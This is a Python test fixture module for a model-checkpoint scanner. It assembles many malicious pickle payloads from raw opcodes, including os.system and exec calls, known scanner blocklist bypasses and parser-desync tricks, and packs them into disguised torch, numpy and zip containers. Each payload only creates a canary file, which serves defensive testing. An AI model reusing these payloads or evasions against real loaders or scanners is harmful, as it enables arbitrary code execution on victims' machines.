"""Generators of malicious pickles and of the containers that deliver them.

Every payload, if it is ever *executed* (pickle.load, torch.load(weights_only=False),
numpy.load(allow_pickle=True), DCP's reader ...), creates a canary file whose path is passed
in; the tests assert that the canary never appears while ckptdoctor looks at the file, and a
self-test proves in a throw-away subprocess that each payload really does create it when loaded
(so no test passes on a dud).

No library writes hostile pickles, so most payloads are assembled here from raw opcode bytes
(the small assembler below); only the `reduce_*` family uses `pickle.dumps` on an object whose
`__reduce__` is malicious, which is how real-world payloads are usually produced. Building a
payload never runs it.

Nothing here is imported by ckptdoctor; it exists for tests only.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import shlex
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler (opcode byte + argument encoding, as in Lib/pickle.py).
def PROTO(n: int) -> bytes:  # named like the opcode constants below
    return b"\x80" + bytes([n])


MARK, STOP, POP, DUP = b"(", b".", b"0", b"2"
TUPLE, TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b"\x87", b")"
REDUCE, BUILD, OBJ, NEWOBJ = b"R", b"b", b"o", b"\x81"
EMPTY_DICT, EMPTY_LIST, APPEND, SETITEM = b"}", b"]", b"a", b"s"
STACK_GLOBAL, MEMOIZE = b"\x93", b"\x94"
NONE = b"N"


def _b(s: str | bytes) -> bytes:
    return s.encode("utf-8") if isinstance(s, str) else s


def GLOBAL(module: str, name: str) -> bytes:
    return b"c" + _b(module) + b"\n" + _b(name) + b"\n"


def INST(module: str, name: str) -> bytes:
    return b"i" + _b(module) + b"\n" + _b(name) + b"\n"


def STRING(s: str) -> bytes:
    """Protocol 0 STRING: a quoted, escaped line."""
    raw = _b(s).replace(b"\\", b"\\\\").replace(b"'", b"\\'").replace(b"\n", b"\\n")
    return b"S'" + raw + b"'\n"


def UNICODE(s: str) -> bytes:
    assert "\\" not in s and "\n" not in s
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def BINUNICODE(s: str) -> bytes:
    data = _b(s)
    return b"X" + struct.pack("<I", len(data)) + data


def SHORT_BINUNICODE(s: str) -> bytes:
    data = _b(s)
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def USTR(s: str) -> bytes:
    """Shortest binary unicode string opcode."""
    return SHORT_BINUNICODE(s) if len(_b(s)) < 256 else BINUNICODE(s)


def SHORT_BINSTRING(s: str | bytes) -> bytes:
    data = _b(s)
    return b"U" + bytes([len(data)]) + data


def BINBYTES(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def SHORT_BINBYTES(data: bytes) -> bytes:
    return b"C" + bytes([len(data)]) + data


def BINPUT(i: int) -> bytes:
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:
    return b"h" + bytes([i])


def LONG_BINPUT(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def PUT(i: int) -> bytes:
    return b"p%d\n" % i


def GET(i: int) -> bytes:
    return b"g%d\n" % i


def FRAME(n: int) -> bytes:
    return b"\x95" + struct.pack("<Q", n)


def EXT1(code: int) -> bytes:
    return b"\x82" + bytes([code])


def EXT2(code: int) -> bytes:
    return b"\x83" + struct.pack("<H", code)


def EXT4(code: int) -> bytes:
    return b"\x84" + struct.pack("<i", code)


def framed(proto: int, body: bytes) -> bytes:
    """PROTO n, one FRAME around the whole body (as protocol 4/5 writers do)."""
    return PROTO(proto) + FRAME(len(body)) + body


# ---------------------------------------------------------------------------------------------
# What a payload does when it runs.
def shell_cmd(canary: str) -> str:
    return f"touch {shlex.quote(canary)}"


def py_code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


@dataclass(frozen=True)
class Payload:
    name: str
    build: Callable[[str], bytes]  # canary path -> pickle bytes
    what: str  # the technique, for docs and failure messages
    # Extra source the self-test runs before loading (e.g. registering a copyreg extension):
    setup: str = ""
    loads_kwargs: dict = field(default_factory=dict)  # e.g. torch.load's encoding="utf-8"
    async_: bool = False  # the canary appears a moment after loading (Popen)


PAYLOADS: dict[str, Payload] = {}


def payload(what: str, **kw) -> Callable[[Callable[[str], bytes]], Callable[[str], bytes]]:
    def deco(fn: Callable[[str], bytes]) -> Callable[[str], bytes]:
        PAYLOADS[fn.__name__] = Payload(fn.__name__, fn, what, **kw)
        return fn
    return deco


# --- os.system in every protocol ---------------------------------------------------------------
@payload("GLOBAL os.system, protocol 0 (text opcodes, STRING argument)")
def os_system_p0(c: str) -> bytes:
    return GLOBAL("os", "system") + MARK + STRING(shell_cmd(c)) + TUPLE + REDUCE + STOP


@payload("GLOBAL os.system, protocol 1 (BINUNICODE, no PROTO opcode)")
def os_system_p1(c: str) -> bytes:
    return GLOBAL("os", "system") + MARK + BINUNICODE(shell_cmd(c)) + TUPLE + REDUCE + STOP


@payload("GLOBAL posix.system (what pickle.dumps writes for os.system on Linux), protocol 2")
def posix_system_p2(c: str) -> bytes:
    return PROTO(2) + GLOBAL("posix", "system") + BINUNICODE(shell_cmd(c)) + TUPLE1 + REDUCE + STOP


@payload("GLOBAL os.system with a bytes argument, protocol 3")
def os_system_p3(c: str) -> bytes:
    return PROTO(3) + GLOBAL("os", "system") + SHORT_BINBYTES(_b(shell_cmd(c))) + TUPLE1 \
        + REDUCE + STOP


@payload("STACK_GLOBAL os.system inside a FRAME with MEMOIZE, protocol 4")
def os_system_p4(c: str) -> bytes:
    body = (USTR("os") + MEMOIZE + USTR("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
            + USTR(shell_cmd(c)) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP)
    return framed(4, body)


@payload("STACK_GLOBAL posix.system via NEWOBJ-free REDUCE, protocol 5 framing")
def posix_system_p5(c: str) -> bytes:
    body = (USTR("posix") + MEMOIZE + USTR("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
            + MARK + USTR(shell_cmd(c)) + TUPLE + REDUCE + STOP)
    return framed(5, body)


# --- subprocess ---------------------------------------------------------------------------------
def _argv_list(c: str) -> bytes:
    return EMPTY_LIST + USTR("touch") + APPEND + USTR(c) + APPEND


@payload("subprocess.Popen(['touch', canary])", async_=True)
def subprocess_popen(c: str) -> bytes:
    return PROTO(2) + GLOBAL("subprocess", "Popen") + _argv_list(c) + TUPLE1 + REDUCE + STOP


@payload("subprocess.check_output(['touch', canary]), protocol 3")
def subprocess_check_output(c: str) -> bytes:
    return PROTO(3) + GLOBAL("subprocess", "check_output") + _argv_list(c) + TUPLE1 + REDUCE \
        + STOP


# --- builtins -----------------------------------------------------------------------------------
@payload("builtins.exec(source)")
def builtins_exec(c: str) -> bytes:
    return PROTO(2) + GLOBAL("builtins", "exec") + USTR(py_code(c)) + TUPLE1 + REDUCE + STOP


@payload("builtins.eval(\"__import__('os').system(...)\"), protocol 0")
def builtins_eval_p0(c: str) -> bytes:
    src = f"__import__('os').system({shell_cmd(c)!r})"
    return GLOBAL("builtins", "eval") + MARK + STRING(src) + TUPLE + REDUCE + STOP


@payload("builtins.exec(builtins.compile(source, name, 'exec'))")
def builtins_compile(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("builtins", "exec") + GLOBAL("builtins", "compile")
            + USTR(py_code(c)) + USTR("<checkpoint>") + USTR("exec") + TUPLE3 + REDUCE
            + TUPLE1 + REDUCE + STOP)


@payload("Python 2 spelling __builtin__.eval (mapped to builtins by fix_imports)")
def py2_builtin_eval(c: str) -> bytes:
    src = f"__import__('os').system({shell_cmd(c)!r})"
    return PROTO(2) + GLOBAL("__builtin__", "eval") + BINUNICODE(src) + TUPLE1 + REDUCE + STOP


@payload("getattr(__import__('os'), 'system')(cmd): reach os from builtins only")
def getattr_import_chain(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("builtins", "getattr") + GLOBAL("builtins", "__import__")
            + USTR("os") + TUPLE1 + REDUCE + USTR("system") + TUPLE2 + REDUCE
            + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("getattr(importlib.import_module('os'), 'system')(cmd)")
def importlib_import_module(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("builtins", "getattr") + GLOBAL("importlib", "import_module")
            + USTR("os") + TUPLE1 + REDUCE + USTR("system") + TUPLE2 + REDUCE
            + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("runpy._run_code(source, {}) (exec in disguise)")
def runpy_run_code(c: str) -> bytes:
    return PROTO(2) + GLOBAL("runpy", "_run_code") + USTR(py_code(c)) + EMPTY_DICT + TUPLE2 \
        + REDUCE + STOP


@payload("types.FunctionType(marshal.loads(code), {})() (bytecode smuggled as bytes)")
def marshal_function(c: str) -> bytes:
    code = marshal.dumps(compile(py_code(c), "<checkpoint>", "exec"))
    return (PROTO(3) + GLOBAL("types", "FunctionType") + GLOBAL("marshal", "loads")
            + BINBYTES(code) + TUPLE1 + REDUCE + EMPTY_DICT + TUPLE2 + REDUCE
            + EMPTY_TUPLE + REDUCE + STOP)


@payload("pickle.loads(<inner os.system pickle>)")
def nested_pickle_loads(c: str) -> bytes:
    return PROTO(3) + GLOBAL("pickle", "loads") + BINBYTES(posix_system_p2(c)) + TUPLE1 \
        + REDUCE + STOP


@payload("_pickle.loads(<inner pickle>) (the C module)")
def nested_c_pickle_loads(c: str) -> bytes:
    return PROTO(3) + GLOBAL("_pickle", "loads") + BINBYTES(os_system_p0(c)) + TUPLE1 \
        + REDUCE + STOP


# --- innocent-looking classes whose __reduce__ is the payload (written by pickle.dumps) -------
class TrainerState:
    """Looks like training state; unpickling it runs a shell command."""

    def __init__(self, canary: str):
        self.canary = canary

    def __reduce__(self):
        return (os.system, (shell_cmd(self.canary),))


class LRSchedulerConfig:
    def __init__(self, canary: str):
        self.canary = canary

    def __reduce_ex__(self, protocol):
        import subprocess

        return (subprocess.check_output, (["touch", self.canary],))


def _reduce_class(proto: int) -> Callable[[str], bytes]:
    def build(c: str) -> bytes:
        state = {"epoch": 3, "global_step": 1200, "trainer_state": TrainerState(c)}
        return pickle.dumps(state, protocol=proto)
    build.__name__ = f"reduce_class_p{proto}"
    return build


for _p in range(6):
    payload(f"__reduce__ of an innocent-looking class inside a dict, pickle.dumps protocol {_p}")(
        _reduce_class(_p))


@payload("__reduce_ex__ returning subprocess.check_output (pickle.dumps protocol 2)")
def reduce_ex_class(c: str) -> bytes:
    return pickle.dumps([1, 2, LRSchedulerConfig(c)], protocol=2)


# --- INST / OBJ (protocol 0/1) -------------------------------------------------------------------
@payload("INST os system: class + call in one protocol-0 opcode")
def inst_os_system(c: str) -> bytes:
    return MARK + STRING(shell_cmd(c)) + INST("os", "system") + STOP


@payload("INST subprocess check_output, protocol 0 list argument")
def inst_subprocess(c: str) -> bytes:
    return (MARK + b"(lp0\n" + UNICODE("touch") + APPEND + UNICODE(c) + APPEND
            + INST("subprocess", "check_output") + STOP)


@payload("OBJ opcode (protocol 1): MARK, class, args, OBJ")
def obj_os_system(c: str) -> bytes:
    return MARK + GLOBAL("os", "system") + BINUNICODE(shell_cmd(c)) + OBJ + STOP


# --- STACK_GLOBAL with names smuggled through the memo or computed ----------------------------
@payload("STACK_GLOBAL names fetched with BINGET after the memo slots were overwritten "
         "(first 'collections OrderedDict', then 'os system': picklescan #14)")
def stack_global_memo_overwrite(c: str) -> bytes:
    return (PROTO(4) + USTR("collections") + BINPUT(0) + POP + USTR("OrderedDict") + BINPUT(1)
            + POP + USTR("os") + BINPUT(0) + POP + USTR("system") + BINPUT(1) + POP
            + BINGET(0) + BINGET(1) + STACK_GLOBAL + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("STACK_GLOBAL names stored with MEMOIZE and fetched with LONG_BINGET")
def stack_global_memoize(c: str) -> bytes:
    body = (USTR("builtins") + MEMOIZE + POP + USTR("exec") + MEMOIZE + POP
            + LONG_BINGET(0) + LONG_BINGET(1) + STACK_GLOBAL + USTR(py_code(c)) + TUPLE1
            + REDUCE + STOP)
    return framed(4, body)


@payload("STACK_GLOBAL names as protocol-0 PUT/GET text memo ops and py2 SHORT_BINSTRINGs")
def stack_global_binstring(c: str) -> bytes:
    return (PROTO(4) + SHORT_BINSTRING("posix") + PUT(7) + POP + SHORT_BINSTRING("system")
            + PUT(9) + POP + GET(7) + GET(9) + STACK_GLOBAL + USTR(shell_cmd(c)) + TUPLE1
            + REDUCE + STOP)


@payload("STACK_GLOBAL whose module name is a call result: builtins.str('os') "
         "(only 'safe' globals in the file)")
def stack_global_str_call(c: str) -> bytes:
    return (PROTO(4) + GLOBAL("builtins", "str") + USTR("os") + TUPLE1 + REDUCE
            + USTR("system") + STACK_GLOBAL + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("STACK_GLOBAL whose module name is ''.join(['o', 's']) via getattr")
def stack_global_join(c: str) -> bytes:
    return (PROTO(4) + GLOBAL("builtins", "getattr") + USTR("") + USTR("join") + TUPLE2
            + REDUCE + EMPTY_LIST + USTR("o") + APPEND + USTR("s") + APPEND + TUPLE1 + REDUCE
            + USTR("system") + STACK_GLOBAL + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


# --- dotted attribute paths (protocol >= 4 resolves 'a.b.c' with getattr) --------------------
@payload("protocol 4 dotted name: STACK_GLOBAL('posixpath', 'os.system')")
def dotted_posixpath(c: str) -> bytes:
    return (PROTO(4) + USTR("posixpath") + USTR("os.system") + STACK_GLOBAL
            + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("protocol 4 dotted name from an innocent module: GLOBAL logging 'os.system'")
def dotted_logging(c: str) -> bytes:
    return PROTO(4) + GLOBAL("logging", "os.system") + USTR(shell_cmd(c)) + TUPLE1 + REDUCE \
        + STOP


@payload("module object smuggled as an attribute (logging.os) and called through "
         "_operator.methodcaller('system', cmd): no 'os', 'system' or 'operator' global")
def attr_module_methodcaller(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("_operator", "methodcaller") + USTR("system")
            + USTR(shell_cmd(c)) + TUPLE2 + REDUCE + GLOBAL("logging", "os") + TUPLE1 + REDUCE
            + STOP)


@payload("_operator.attrgetter('system')(pathlib.os)(cmd): the C twin of operator")
def attr_module_attrgetter(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("_operator", "attrgetter") + USTR("system") + TUPLE1 + REDUCE
            + GLOBAL("pathlib", "os") + TUPLE1 + REDUCE + USTR(shell_cmd(c)) + TUPLE1 + REDUCE
            + STOP)


@payload("_functools.partial(exec, source)(): the C twin of functools")
def c_functools_partial(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("_functools", "partial") + GLOBAL("builtins", "exec")
            + USTR(py_code(c)) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP)


# --- published blocklist bypasses: stdlib / torch functions that run commands -----------------
@payload("pydoc.pipepager(text, cmd): pipes text into a shell command (picklescan bypass)")
def pydoc_pipepager(c: str) -> bytes:
    return PROTO(2) + GLOBAL("pydoc", "pipepager") + USTR("x") + USTR(shell_cmd(c)) + TUPLE2 \
        + REDUCE + STOP


@payload("_osx_support._read_output(cmd): os.system under a private name")
def osx_support_read_output(c: str) -> bytes:
    return PROTO(2) + GLOBAL("_osx_support", "_read_output") + USTR(shell_cmd(c)) + TUPLE1 \
        + REDUCE + STOP


@payload("uuid._get_command_stdout('touch', canary): subprocess under a private name")
def uuid_command_stdout(c: str) -> bytes:
    return PROTO(2) + GLOBAL("uuid", "_get_command_stdout") + USTR("touch") + USTR(c) \
        + TUPLE2 + REDUCE + STOP


@payload("torch._utils._import_dotted_name('os.system')(cmd): torch's own import gadget",
         setup="import torch\n")
def torch_import_dotted_name(c: str) -> bytes:
    return (PROTO(2) + GLOBAL("torch._utils", "_import_dotted_name") + USTR("os.system")
            + TUPLE1 + REDUCE + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


# --- issue 9: names the old prefix rules called data, and gadgets --allow/--trust admitted -------
@payload("enum.bltns.open(canary, 'w'): enum's `import builtins as bltns` reached by a dotted "
         "name, protocol 4 (the prefix rule 'enum.' called it data)")
def enum_bltns_open_p4(c: str) -> bytes:
    body = (USTR("enum") + USTR("bltns.open") + STACK_GLOBAL + USTR(c) + USTR("w") + TUPLE2
            + REDUCE + STOP)
    return framed(4, body)


@payload("enum.bltns.exec(source) via GLOBAL with a dotted name, protocol 4")
def enum_bltns_exec_p4(c: str) -> bytes:
    return PROTO(4) + GLOBAL("enum", "bltns.exec") + USTR(py_code(c)) + TUPLE1 + REDUCE + STOP


@payload("enum.bltns.getattr(enum.bltns.__import__('os'), 'system')(cmd): a chain of "
         "'data' names reaching a shell, protocol 4")
def enum_bltns_chain_p4(c: str) -> bytes:
    return (PROTO(4) + GLOBAL("enum", "bltns.getattr") + GLOBAL("enum", "bltns.__import__")
            + USTR("os") + TUPLE1 + REDUCE + USTR("system") + TUPLE2 + REDUCE
            + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("torch.distributed.checkpoint.metadata.torch._utils._import_dotted_name: torch's "
         "import gadget through the DCP metadata module (the prefix rule called it data)",
         setup="import torch.distributed.checkpoint.metadata\n")
def dcp_metadata_torch_gadget(c: str) -> bytes:
    return (PROTO(4) + GLOBAL("torch.distributed.checkpoint.metadata",
                              "torch._utils._import_dotted_name")
            + USTR("os.system") + TUPLE1 + REDUCE + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)


@payload("typing._eval_type(typing.ForwardRef(src), {}, {}): an eval with no eval global")
def typing_eval_type(c: str) -> bytes:
    src = f"__import__('os').system({shell_cmd(c)!r})"
    return (PROTO(2) + GLOBAL("typing", "_eval_type") + GLOBAL("typing", "ForwardRef")
            + USTR(src) + TUPLE1 + REDUCE + EMPTY_DICT + EMPTY_DICT + TUPLE3 + REDUCE + STOP)


@payload("logging.FileHandler(canary): a stdlib class that creates a file when built")
def logging_file_handler(c: str) -> bytes:
    return PROTO(2) + GLOBAL("logging", "FileHandler") + USTR(c) + TUPLE1 + REDUCE + STOP


@payload("pathlib.PosixPath.write_text(PosixPath(canary), 'x'): a method of a data class, "
         "protocol 4")
def pathlib_write_text(c: str) -> bytes:
    return (PROTO(4) + GLOBAL("pathlib", "PosixPath.write_text") + GLOBAL("pathlib", "PosixPath")
            + USTR(c) + TUPLE1 + REDUCE + USTR("x") + TUPLE2 + REDUCE + STOP)


@payload("imaplib.IMAP4_stream(cmd): spawns a shell command as its 'server'")
def imaplib_imap4_stream(c: str) -> bytes:
    return PROTO(2) + GLOBAL("imaplib", "IMAP4_stream") + USTR(shell_cmd(c)) + TUPLE1 + REDUCE \
        + STOP


@payload("mailcap.findmatch(caps, type): runs each entry's 'test' command with os.system")
def mailcap_findmatch(c: str) -> bytes:
    entry = (EMPTY_DICT + USTR("view") + USTR("true") + SETITEM + USTR("test")
             + USTR(shell_cmd(c)) + SETITEM)
    caps = EMPTY_DICT + USTR("x/y") + EMPTY_LIST + entry + APPEND + SETITEM
    return PROTO(2) + GLOBAL("mailcap", "findmatch") + caps + USTR("x/y") + TUPLE2 + REDUCE \
        + STOP


# --- copyreg extension codes ---------------------------------------------------------------------
_EXT_SETUP = ("import copyreg\n"
              "for _r in (copyreg._extension_registry, copyreg._inverted_registry,\n"
              "           copyreg._extension_cache):\n"
              "    _r.clear()\n"
              "copyreg.add_extension('posix', 'system', {code})\n")


@payload("EXT1 code 0xf0 (resolved through copyreg's registry at load time)",
         setup=_EXT_SETUP.format(code=0xF0))
def ext1_system(c: str) -> bytes:
    return PROTO(2) + EXT1(0xF0) + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP


@payload("EXT2 code 0x1234", setup=_EXT_SETUP.format(code=0x1234))
def ext2_system(c: str) -> bytes:
    return PROTO(2) + EXT2(0x1234) + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP


@payload("EXT4 code 0x7fff0000", setup=_EXT_SETUP.format(code=0x7FFF0000))
def ext4_system(c: str) -> bytes:
    return PROTO(2) + EXT4(0x7FFF0000) + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP


# --- parser differentials: opcodes pickletools.genops rejects but the unpickler accepts -------
@payload("INT '0x1' (the C unpickler parses base 0, pickletools only base 10), then POP, "
         "then os.system: a scanner that stops at the parse error never sees the payload")
def int_base_prefix_desync(c: str) -> bytes:
    return b"I0x1\n" + POP + os_system_p0(c)


@payload("LONG '0o7L' (base-0 literal) desync, then os.system")
def long_base_prefix_desync(c: str) -> bytes:
    return b"L0o7L\n" + POP + os_system_p0(c)


@payload("STRING with UTF-8 bytes (pickletools decodes ASCII and fails; torch.load decodes "
         "utf-8 and goes on), then os.system", loads_kwargs={"encoding": "utf-8"})
def string_utf8_desync(c: str) -> bytes:
    return b"S'\xc3\xa9t\xc3\xa9'\n" + POP + os_system_p0(c)


@payload("GLOBAL whose module line straddles the end of a FRAME: the C unpickler reading a "
         "file (torch.load's BytesIO) drops the frame's tail 'zzz' and imports pydoc; "
         "pickletools reads 'zzzpydoc'")
def frame_boundary_desync(c: str) -> bytes:
    in_frame = b"c" + b"zzz"
    return (PROTO(4) + FRAME(len(in_frame)) + in_frame + b"pydoc\npipepager\n" + USTR("x")
            + USTR(shell_cmd(c)) + TUPLE2 + REDUCE + STOP)


@payload("payload after a benign value and a second PROTO opcode mid-stream")
def mid_stream_proto(c: str) -> bytes:
    return PROTO(2) + b"K\x07" + POP + PROTO(4) + os_system_p4(c)[2:]


# ---------------------------------------------------------------------------------------------
# Containers. Each writes the payload into `dest` (a directory) in one delivery format and
# returns the path to hand to ckptdoctor.
LEGACY_MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
BENIGN = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)


def _zip(records: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    """Zip bytes with records in the given order (duplicate names allowed)."""
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name"
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in records:
                zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                zi.compress_type = compress
                zf.writestr(zi, data)
    return buf.getvalue()


def torch_zip_bytes(data_pkl: bytes, archive: str = "archive") -> bytes:
    """A torch.save-shaped zip whose data.pkl is `data_pkl` (records as torch writes them)."""
    return _zip([
        (f"{archive}/data.pkl", data_pkl),
        (f"{archive}/.format_version", b"1"),
        (f"{archive}/.storage_alignment", b"64"),
        (f"{archive}/byteorder", b"little"),
        (f"{archive}/version", b"3\n"),
        (f"{archive}/.data/serialization_id", b"1234567890"),
    ])


def legacy_bytes(obj_pickle: bytes) -> bytes:
    """torch's pre-1.6 format: magic, protocol version, sys_info, the object, storage keys."""
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (LEGACY_MAGIC + pickle.dumps(1001, protocol=2) + pickle.dumps(sys_info, protocol=2)
            + obj_pickle + pickle.dumps([], protocol=2))


def npy_object_bytes(obj_pickle: bytes, descr: str = "|O") -> bytes:
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}"
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") \
        + obj_pickle


def tar_legacy_bytes(obj_pickle: bytes) -> bytes:
    """torch's oldest format: a tar of 'storages', 'tensors' and 'pickle' (every member is
    unpickled by torch.load(weights_only=False))."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
                           ("tensors", pickle.dumps(0, 2)), ("pickle", obj_pickle)):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tar.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


@dataclass(frozen=True)
class Container:
    name: str
    build: Callable[[bytes, Path], Path]  # (payload bytes, directory) -> path to scan
    what: str
    formats: tuple[str, ...]  # formats detect_file may report for the scanned file
    # How a victim loads it (LOADERS below); "" when no stock loader runs it (still flagged:
    # the file holds a payload whatever reads it next).
    loader: str = ""


# Victim-side loads, for the liveness self-test (run in a throw-away subprocess only).
LOADERS = {
    "torch": "torch.load({path!r}, weights_only=False)",
    "torch_fh": "torch.load(open({path!r}, 'rb'), weights_only=False)",
    "numpy": "np.load({path!r}, allow_pickle=True)",
    "npz": "_z = np.load({path!r}, allow_pickle=True); [_z[k] for k in _z.files]",
    "pickle": "pickle.load(open({path!r}, 'rb'))",
}

CONTAINERS: dict[str, Container] = {}


def container(what: str, formats: tuple[str, ...], loader: str = ""):
    def deco(fn):
        CONTAINERS[fn.__name__] = Container(fn.__name__, fn, what, formats, loader)
        return fn
    return deco


@container("plain .pkl file", ("pickle",), loader="pickle")
def plain_pkl(p: bytes, d: Path) -> Path:
    return _write(d / "model.pkl", p)


@container("torch zip (hand-assembled STORED records) whose archive/data.pkl is the payload",
           ("torch-zip",), loader="torch")
def torch_zip(p: bytes, d: Path) -> Path:
    return _write(d / "pytorch_model.bin", torch_zip_bytes(p))


@container("torch zip with TWO archive/data.pkl records: payload first, benign last "
           "(Python's zipfile sees the last one)", ("torch-zip",), loader="torch")
def torch_zip_duplicate(p: bytes, d: Path) -> Path:
    z = _zip([("archive/data.pkl", p), ("archive/byteorder", b"little"),
              ("archive/version", b"3\n"), ("archive/data.pkl", BENIGN)])
    return _write(d / "model.pt", z)


@container("torch zip whose FIRST record names the archive torch reads (evil/data.pkl) while a "
           "shorter benign a/data.pkl is also present", ("torch-zip",))
def torch_zip_first_prefix(p: bytes, d: Path) -> Path:
    z = _zip([("evil/data.pkl", p), ("evil/byteorder", b"little"), ("evil/version", b"3\n"),
              ("a/data.pkl", BENIGN), ("a/byteorder", b"little"), ("a/version", b"3\n")])
    return _write(d / "model.pth", z)


@container("legacy torch file: magic pickle, version, sys_info, payload as the object pickle",
           ("torch-legacy",), loader="torch")
def torch_legacy(p: bytes, d: Path) -> Path:
    return _write(d / "old_model.pt", legacy_bytes(p))


@container("legacy torch TAR format (members storages/tensors/pickle)", ("torch-legacy",),
           loader="torch")
def torch_legacy_tar(p: bytes, d: Path) -> Path:
    return _write(d / "ancient.pt", tar_legacy_bytes(p))


@container("DCP .metadata replaced by the payload", ("dcp-metadata", "pickle"), loader="pickle")
def dcp_metadata(p: bytes, d: Path) -> Path:
    ck = d / "dcp_ckpt"
    _write(ck / "__0_0.distcp", b"")
    return _write(ck / ".metadata", p)


@container("numpy .npy object array whose data is the payload", ("numpy",), loader="numpy")
def npy_object(p: bytes, d: Path) -> Path:
    return _write(d / "rng.npy", npy_object_bytes(p))


@container("numpy .npy with descr 'object' spelled out (np.dtype('object').hasobject)",
           ("numpy",), loader="numpy")
def npy_object_word(p: bytes, d: Path) -> Path:
    return _write(d / "state.npy", npy_object_bytes(p, descr="object"))


@container(".npz holding an object .npy member", ("numpy",), loader="npz")
def npz_object(p: bytes, d: Path) -> Path:
    z = _zip([("ok.npy", npy_object_bytes(BENIGN)), ("arr_0.npy", npy_object_bytes(p))])
    return _write(d / "arrays.npz", z)


@container("zip inside a zip inside a zip, the innermost a torch zip", ("zip", "torch-zip"))
def nested_zip(p: bytes, d: Path) -> Path:
    inner = torch_zip_bytes(p)
    middle = _zip([("README.txt", b"weights"), ("weights/model.pt", inner)])
    outer = _zip([("bundle/part1.zip", middle)])
    return _write(d / "bundle.zip", outer)


@container("pickle named .safetensors", ("pickle",), loader="torch_fh")
def misnamed_safetensors(p: bytes, d: Path) -> Path:
    return _write(d / "model.safetensors", p)


@container("pickle named .json", ("pickle",), loader="torch")
def misnamed_json(p: bytes, d: Path) -> Path:
    return _write(d / "config.json", p)


@container("no extension; payload after a 300-byte STRING + POP prefix (the first 64 bytes "
           "do not parse as opcodes)", ("pickle",), loader="torch")
def long_text_prefix(p: bytes, d: Path) -> Path:
    return _write(d / "rng_state", b"S'" + b"A" * 300 + b"'\n" + POP + p)


@container("odd extension; payload after a binary SHORT_BINBYTES + POP prefix (first byte is "
           "not a usual first opcode, NUL bytes defeat text sniffing)", ("pickle",), loader="torch")
def binary_prefix(p: bytes, d: Path) -> Path:
    return _write(d / "extra_state.dat", SHORT_BINBYTES(b"\x00" * 40) + POP + p)


def build_dcp_shard(payload_zip: bytes, d: Path) -> Path:
    """A REAL DCP checkpoint (written by torch.distributed.checkpoint) whose .metadata is then
    pointed at a torch zip appended to the .distcp shard for its one bytes item (DCP reads bytes
    items back with torch.load(weights_only=False))."""
    import warnings

    import torch
    import torch.distributed.checkpoint as dcp

    ck = d / "dcp_live"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.zeros(4), "extra": {"step": 5}}, checkpoint_id=str(ck))
    md_path = ck / ".metadata"
    md = pickle.loads(md_path.read_bytes())  # our own freshly written, trusted file
    shard = next(ck.glob("*.distcp"))
    offset = shard.stat().st_size
    with open(shard, "ab") as fh:
        fh.write(payload_zip)
    for index, info in list(md.storage_data.items()):
        if "step" in index.fqn:
            md.storage_data[index] = type(info)(info.relative_path, offset, len(payload_zip))
    md_path.write_bytes(pickle.dumps(md))
    return shard


def dcp_load_snippet(ck_dir: str) -> str:
    return ("import warnings, torch, torch.distributed.checkpoint as dcp\n"
            "warnings.simplefilter('ignore')\n"
            "sd = {'w': torch.zeros(4), 'extra': {'step': 0}}\n"
